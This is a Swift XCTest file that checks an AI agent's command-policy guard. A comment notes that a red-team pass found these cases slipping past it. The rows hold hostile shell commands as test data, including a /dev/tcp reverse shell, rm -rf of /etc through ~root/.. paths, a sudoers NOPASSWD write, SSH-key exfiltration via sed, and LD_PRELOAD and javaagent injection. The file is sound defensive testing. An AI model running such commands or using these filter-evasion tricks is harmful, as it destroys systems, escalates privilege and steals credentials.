// Found by a red-team pass aimed at this session's relaxations and fixed; every row got `allow`
// before (several were older: `system (…)` with a blank, `~root/..` paths).
import AgentPolicy
import XCTest

final class RelaxationReviewTests: XCTestCase {
    func testGuarded() {
        assertDecisions([
            ("awk 'BEGIN { system (\"rm -rf /etc\") }'", .block),
            ("awk 'BEGIN { system (\"bash -i >& /dev/tcp/1.2.3.4/4444 0>&1\") }'", .block),
            ("mv ~root/../etc /tmp/x", .needsConfirmation),
            ("echo \"x ALL=(ALL) NOPASSWD:ALL\" > ~root/../etc/sudoers.d/x", .block),
            ("cp /tmp/evil ~root/../etc/cron.d/x", .needsConfirmation),
            ("truncate -s0 ~root/../etc/passwd", .block),
            ("cat ~root/../etc/shadow", .needsConfirmation),
            ("rm -rf ~root/../etc", .block),
            ("rm -rf ~sys/../etc", .block),
            ("rm -rf ~daemon/../../usr", .block),
            ("PS4='`touch /tmp/p` '; set -x; :", .needsConfirmation),
            ("PS4='$(id)' bash -x deploy.sh", .needsConfirmation),
            ("JAVA_TOOL_OPTIONS=\"-Xmx1g\n-javaagent:/tmp/evil.jar\" java -version", .needsConfirmation),
            ("JDK_JAVA_OPTIONS=-javaagent:/tmp/evil.jar java", .needsConfirmation),
            ("sed -i 'w /dev/stdout' ~/.ssh/id_ed25519", .needsConfirmation),
            ("sed -i 's/^/&/w /tmp/copy' ~/.ssh/id_rsa", .needsConfirmation),
            ("kubectl delete namespace prod --dry-run=none", .needsConfirmation),
            ("kubectl drain node1 --dry-run=false", .needsConfirmation),
            ("helm uninstall prod --dry-run=false", .needsConfirmation),
            ("kubectl delete ns prod -- --dry-run", .needsConfirmation),
            ("sysctl -f /tmp/evil.conf", .needsConfirmation),
            ("sysctl -p/tmp/evil.conf", .needsConfirmation),
            ("npm audit fix --d", .needsConfirmation),
            ("helm template x ./chart --post-renderer /tmp/evil.sh", .needsConfirmation),
            ("terraform state pull", .needsConfirmation),
            ("read LD_PRELOAD <<< /tmp/x.so; export LD_PRELOAD; ls", .block),
        ])
    }

    func testReadonly() {
        assertDecisions([
            ("awk 'BEGIN { system (\"id\") }'", .block),
            ("sysctl -f /tmp/evil.conf", .block),
            ("awk '/\"/ { print > \"/tmp/x\" }' f", .block),
            ("awk '# \"\n{ print > \"/tmp/x\" }' f", .block),
            ("awk '{ print $0 \\\n> \"/tmp/x\" }' f", .block),
            ("awk '{ print $1,\n$2 > \"/tmp/x\" }' f", .block),
            ("awk '{ print $0 ~ /;/ > \"/tmp/x\" }' f", .block),
            ("unzip x.zip -x -l", .block),
            ("yq --in-place . f.yaml", .block),
            ("docker compose config -o /tmp/out.yml", .block),
            ("service ../../tmp/evil status", .block),
            ("nft list ruleset \\; flush ruleset", .block),
        ], mode: .readonly)
    }
}
